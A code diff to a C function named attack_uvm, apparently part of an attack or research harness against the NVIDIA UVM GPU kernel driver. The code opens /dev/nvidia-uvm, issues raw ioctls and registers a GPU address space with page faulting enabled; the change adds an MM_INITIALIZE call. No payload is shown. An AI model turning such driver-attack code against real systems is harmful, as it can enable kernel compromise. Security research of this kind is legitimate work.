@@ -143,13 +143,17 @@ void attack_uvm (int argc, char **argv)
     } range = { 0 };
     uint32_t gid[67] = { 0, 2 }, address_space[12] = { 0 };
     uint64_t flags[2] = { 0, 0xffff }, base = 0x700000000000;
+    int32_t memory[2] = { -1, -1 };
     unsigned pieces = argc > 0 ? (unsigned) atoi (argv[0]) : 20, kept = 0;
 
     uvm = open ("/dev/nvidia-uvm", O_RDWR);
+    memory[0] = uvm;
     say ("gid", bed_control (&bed, bed.subdevice, 0x2080014a, gid, sizeof (gid)));
     memcpy (gpu.uuid, gid + 3, 16);
     memcpy (space.uuid, gid + 3, 16);
     say ("initialize", uvm_call (0x30000001, flags, 8));
+    /* MM_INITIALIZE, on a file of its own: before it no address space can be registered. */
+    say ("mm", ioctl (open ("/dev/nvidia-uvm", O_RDWR), 75, memory) < 0 ? 0x10000u + (uint32_t) errno : (uint32_t) memory[1]);
     say ("register", uvm_call (37, &gpu, 36));
     address_space[1] = 0x48; /* NV_VASPACE_ALLOCATION_FLAGS_IS_EXTERNALLY_OWNED, ENABLE_PAGE_FAULTING (nvos.h) */
     say ("space", bed_alloc (&bed, bed.device, space.space, 0x90f1, address_space));
